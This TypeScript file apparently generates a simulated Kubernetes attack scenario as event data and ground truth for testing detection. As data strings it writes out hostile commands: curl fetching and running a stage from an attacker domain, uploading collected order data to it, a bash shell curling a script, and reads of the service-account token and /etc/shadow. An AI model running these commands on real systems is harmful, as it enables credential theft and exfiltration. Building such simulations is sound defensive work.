import type { ApiCall } from '../apiCall.ts';
import type { Endpoint } from '../happening.ts';
import { randomDomain } from '../randomDomain.ts';
import { after } from '../timeline.ts';
import type { ScenarioProcess } from '../writer.ts';
import { breakIn, lookAround } from './breakIn.ts';
import { type Cast, NAMESPACE, SERVICES } from './cast.ts';
import { type Shop, serviceAccountOf } from './routine.ts';

const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
const CURL = '/usr/bin/curl';

/** Who did what, for the truth of the incident. */
export type Attack = {
  readonly domain: string;
  readonly domainIp: string;
  /** The shell that `kubectl exec` started, and the call that did. */
  readonly shell: ScenarioProcess;
  readonly shellCall: ApiCall;
  /** An operator's look around, in the same way. */
  readonly listing: ScenarioProcess;
  readonly listingCall: ApiCall;
  readonly tokenReader: ScenarioProcess;
  /** The forked child whose exec of a package manager was prevented. */
  readonly refused: ScenarioProcess;
  readonly stage: ScenarioProcess;
  readonly implant: ScenarioProcess;
  readonly setuid: ScenarioProcess;
  readonly shadowReader: ScenarioProcess;
  readonly collector: ScenarioProcess;
  readonly collectorPort: number;
  readonly exfiltrator: ScenarioProcess;
  readonly exfilBytes: number;
  readonly neighbourShell: ScenarioProcess;
  readonly neighbourCurl: ScenarioProcess;
};

type Scene = {
  readonly cast: Cast;
  readonly shop: Shop;
  readonly shell: ScenarioProcess;
  readonly domain: string;
  readonly domainIp: string;
};

export function runAttack(cast: Cast, shop: Shop): Attack {
  const domain = randomDomain(cast.random);
  const domainIp = `203.0.113.${cast.random.between(16, 240)}`;
  const { listing, listingCall } = lookAround(cast, shop.search);
  const { shell, shellCall } = breakIn(cast, shop.checkout);
  const scene: Scene = { cast, shop, shell, domain, domainIp };
  const { machine } = shop.checkout.host;

  brief(scene, shell, 4, '/usr/bin/id', '');
  const tokenReader = brief(scene, shell, 9, '/bin/cat', TOKEN);
  readFile(scene, tokenReader, TOKEN, 'service-account-tokens');
  const refused = machine.refuse(shell, after(shell.start, 15), '/usr/bin/apt', 'install -y ncat');
  const stage = fetchStage(scene);
  const implant = startImplant(scene);
  const { setuid, shadowReader } = raisePrivilege(scene);
  callApi(scene);
  const { collector, collectorPort, collected } = collect(scene);
  const exfilBytes = collected + cast.random.between(8_000, 9_500);
  const exfiltrator = spawnCurl(scene, shell, 95, `-s -T /tmp/.c https://${domain}:8443/u/7`);
  callOutside(scene, exfiltrator, 8443, exfilBytes, 894, 3.9, domain);
  const neighbour = moveOn(scene);
  brief(scene, shell, 131, '/bin/rm', '-f /tmp/.c');
  machine.exit(shell, after(shell.start, 140));
  return {
    domain,
    domainIp,
    shell,
    shellCall,
    listing,
    listingCall,
    tokenReader,
    refused,
    stage,
    implant,
    setuid,
    shadowReader,
    collector,
    collectorPort,
    exfiltrator,
    exfilBytes,
    ...neighbour,
  };
}

/** The stage is fetched under a name that looks machine-made. */
function fetchStage(scene: Scene): ScenarioProcess {
  const { shell, domain } = scene;
  const stage = spawnCurl(scene, shell, 21, `-fsSL -o /tmp/.x https://${domain}/stage`);
  callOutside(scene, stage, 443, 812, 184_320, 0.9, domain);
  brief(scene, shell, 26, '/bin/chmod', '755 /tmp/.x');
  return stage;
}

/** It calls home, which stays open, and tries a second address, which a network policy denies. */
function startImplant(scene: Scene): ScenarioProcess {
  const { cast, shop, shell, domain, domainIp } = scene;
  const { machine, traffic } = shop.checkout.host;
  const implant = machine.spawn(shell, {
    at: after(shell.start, 28),
    binary: '/tmp/.x',
    arguments: '--quiet',
  });
  const client = { client: implant, clientIp: shop.checkout.pod.ip };
  const asked = cast.askOutside(implant, after(implant.start, 0.006), domain, domainIp);
  traffic.converse({
    ...client,
    at: after(asked, 0.001),
    to: { ip: domainIp, port: 443 },
    sent: 18_214,
    received: 2_307,
    seconds: 149,
    open: true,
  });
  traffic.converse({
    ...client,
    at: after(implant.start, 3.5),
    to: { ip: '198.51.100.66', port: 4444 },
    sent: 0,
    received: 0,
    seconds: 7.1,
    denied: true,
  });
  return implant;
}

/** A setuid helper makes the shell's child root. */
function raisePrivilege(scene: Scene) {
  const raised =
    ',"process_credentials":{"uid":1000,"gid":1000,"euid":0,"egid":1000,"suid":0,"sgid":1000,"fsuid":0,"fsgid":1000}' +
    ',"binary_properties":{"setuid":0,"privileges_changed":["PRIVILEGES_RAISED_EXEC_FILE_SETUID"]}';
  const { machine } = scene.shop.checkout.host;
  const setuid = machine.spawn(scene.shell, {
    at: after(scene.shell.start, 45),
    binary: '/opt/support/as-root',
    arguments: '/bin/cat /etc/shadow',
    uid: 0,
    extra: raised,
  });
  const shadowReader = brief(scene, setuid, 0.012, '/bin/cat', '/etc/shadow');
  readFile(scene, shadowReader, '/etc/shadow', 'sensitive-files');
  machine.exit(setuid, after(setuid.start, 0.04));
  return { setuid, shadowReader };
}

/** With the token of the pod: a secret, what is forbidden, and a role for itself. */
function callApi(scene: Scene): void {
  const { cast, shop, shell } = scene;
  const { checkout } = shop;
  const rbac = 'rbac.authorization.k8s.io';
  const { uid, name } = checkout.pod;
  const user = {
    ...serviceAccountOf(NAMESPACE, 'checkout'),
    extra: {
      'authentication.kubernetes.io/credential-id': [`JTI=${uid}`],
      'authentication.kubernetes.io/node-name': [checkout.pod.node.name],
      'authentication.kubernetes.io/pod-name': [name],
      'authentication.kubernetes.io/pod-uid': [uid],
    },
  };
  const requests = [
    {
      verb: 'get',
      uri: `/api/v1/namespaces/${NAMESPACE}/secrets/search-credentials`,
      objectRef: { resource: 'secrets', namespace: NAMESPACE, name: 'search-credentials' },
      code: 200,
    },
    {
      verb: 'list',
      uri: '/api/v1/namespaces/kube-system/secrets',
      objectRef: { resource: 'secrets', namespace: 'kube-system' },
      code: 403,
    },
    {
      verb: 'create',
      uri: `/apis/${rbac}/v1/namespaces/${NAMESPACE}/rolebindings`,
      objectRef: { resource: 'rolebindings', namespace: NAMESPACE, name: 'sync', apiGroup: rbac },
      code: 201,
    },
  ] as const;
  for (const [index, request] of requests.entries()) {
    const method = request.verb === 'create' ? '-X POST -d @/tmp/.r ' : '';
    const url = `https://${SERVICES.api.ip}${request.uri}`;
    const curl = spawnCurl(scene, shell, 60 + index * 4, `-sk ${method}${url}`);
    const connected = after(curl.start, 0.006);
    checkout.host.traffic.converse({
      client: curl,
      clientIp: checkout.pod.ip,
      at: connected,
      to: SERVICES.api,
      sent: 940,
      received: 2_130,
      seconds: 0.07,
    });
    checkout.host.machine.exit(curl, after(connected, 0.075));
    const forbidden = request.code === 403;
    cast.calls.push({
      at: after(connected, 0.02),
      user,
      sourceIps: [checkout.pod.ip],
      userAgent: 'curl/8.14.1',
      ...request,
      objectRef: { ...request.objectRef, apiVersion: 'v1' },
      reason: forbidden ? '' : `RBAC: allowed by RoleBinding "checkout/${NAMESPACE}"`,
    });
  }
}

/** Everything the neighbour has, through its service. */
function collect(scene: Scene) {
  const { cast, shell } = scene;
  const collected = 3_100_000 + cast.random.int(4_000);
  const url = 'http://search:9200/orders/_search?size=10000';
  const collector = spawnCurl(scene, shell, 80, `-s -o /tmp/.c ${url}`);
  const collectorPort = callSearch(scene, collector, 118, collected, 2.6);
  return { collector, collectorPort, collected };
}

/** A script that the neighbour runs: its java starts a shell, which calls out itself. */
function moveOn(scene: Scene) {
  const { shop, shell, domain } = scene;
  const curl = spawnCurl(scene, shell, 110, '-s -XPOST http://search:9200/_scripts -d @/tmp/.p');
  callSearch(scene, curl, 1_877, 341, 1.7);
  const { machine } = shop.search.host;
  const script = `-fsS http://${domain}:8080/s -o /tmp/.s`;
  const neighbourShell = machine.spawn(shop.java, {
    at: after(curl.start, 0.6),
    binary: '/bin/bash',
    arguments: `-c "id;curl ${script}"`,
  });
  brief(scene, neighbourShell, 0.006, '/usr/bin/id', '');
  const neighbourCurl = spawnCurl(scene, neighbourShell, 0.019, script);
  callOutside(scene, neighbourCurl, 8080, 211, 5_120, 0.4);
  machine.exit(neighbourShell, after(neighbourShell.start, 0.9));
  return { neighbourShell, neighbourCurl };
}

function callSearch(
  { cast, shop }: Scene,
  curl: ScenarioProcess,
  sent: number,
  received: number,
  seconds: number,
): number {
  const { search } = SERVICES;
  const asked = cast.askService(curl, after(curl.start, 0.005), 'search', search.ip);
  const port = shop.checkout.host.traffic.converse({
    client: curl,
    clientIp: shop.checkout.pod.ip,
    at: after(asked, 0.001),
    to: search,
    server: { process: shop.java, at: { ip: shop.search.pod.ip, port: search.port } },
    sent,
    received,
    seconds,
  });
  cast.hostOf(curl).machine.exit(curl, after(asked, seconds + 0.006));
  return port;
}

/** A curl that looks the attacker's name up, calls it and ends. */
function callOutside(
  { cast, domain, domainIp }: Scene,
  curl: ScenarioProcess,
  port: number,
  sent: number,
  received: number,
  seconds: number,
  sni?: string,
): void {
  const asked = cast.askOutside(curl, after(curl.start, 0.006), domain, domainIp);
  const at = after(asked, 0.001);
  const to: Endpoint = { ip: domainIp, port };
  const { machine, traffic } = cast.hostOf(curl);
  traffic.converse({
    client: curl,
    clientIp: curl.container?.pod.ip ?? '',
    at,
    to,
    sent,
    received,
    seconds,
    ...(sni === undefined ? {} : { sni }),
  });
  machine.exit(curl, after(at, seconds + 0.005));
}

function spawnCurl(
  { cast }: Scene,
  parent: ScenarioProcess,
  seconds: number,
  text: string,
): ScenarioProcess {
  const at = after(parent.start, seconds);
  return cast.hostOf(parent).machine.spawn(parent, { at, binary: CURL, arguments: text });
}

/** A command that ends at once. */
function brief(
  { cast }: Scene,
  parent: ScenarioProcess,
  seconds: number,
  binary: string,
  text: string,
): ScenarioProcess {
  const { machine } = cast.hostOf(parent);
  const at = after(parent.start, seconds);
  const child = machine.spawn(parent, { at, binary, arguments: text });
  machine.exit(child, after(at, 0.0047));
  return child;
}

function readFile({ cast }: Scene, process: ScenarioProcess, path: string, policy: string): void {
  const at = after(process.start, 0.0019);
  cast.hostOf(process).machine.tell({ what: 'file', process, at, path, access: 'read', policy });
}
